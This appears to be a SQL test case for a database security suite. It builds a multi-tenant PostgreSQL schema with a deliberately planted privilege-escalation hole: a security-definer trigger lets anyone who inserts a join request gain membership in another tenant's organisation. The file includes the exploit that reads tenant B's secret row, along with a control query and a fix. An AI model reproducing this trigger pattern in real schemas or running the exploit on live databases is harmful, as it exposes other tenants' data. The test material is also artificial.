-- What: A request to join is granted by a trigger with its owner's rights; anybody may write requests.
-- Class: policy_lookup_writable|function_definer
-- Object: public.boards | public.grant_request
-- Exploit: INSERT a request for B's organisation.
-- Setting: app.user_id
-- Config: fixtures = { ["public.memberships"] = "insert into public.memberships (user_id, org_id) values ({tenant}, {tenant})" }
-- @schema
create table memberships (user_id uuid not null, org_id uuid not null, role text not null default 'member', primary key (user_id, org_id));
create table boards (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table boards enable row level security;
alter table boards force row level security;
create policy member on boards using (exists (select from memberships m where m.org_id = boards.tenant_id
  and m.user_id = nullif(current_setting('app.user_id', true), '')::uuid));
alter table memberships enable row level security;
alter table memberships force row level security;
create policy r on memberships for select using (user_id = nullif(current_setting('app.user_id', true), '')::uuid);
grant select on memberships to app_user;
grant select, insert, update, delete on boards to app_user;
create table requests (id bigint generated always as identity primary key, org_id uuid not null);
grant insert on requests to app_user;
-- @superuser
create function grant_request() returns trigger language plpgsql security definer set search_path = public, pg_temp as $$
begin
  insert into memberships (user_id, org_id) values (nullif(current_setting('app.user_id', true), '')::uuid, new.org_id);
  return new;
end $$;
create trigger granted after insert on requests for each row execute function grant_request();
-- @rows
insert into memberships values (:'A', :'A'), (:'B', :'B');
insert into boards (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
drop trigger granted on requests;
-- @control
select from boards where tenant_id = :'A';
-- @exploit
insert into requests (org_id) values (:'B');
select body from boards where body = 'B-secret';
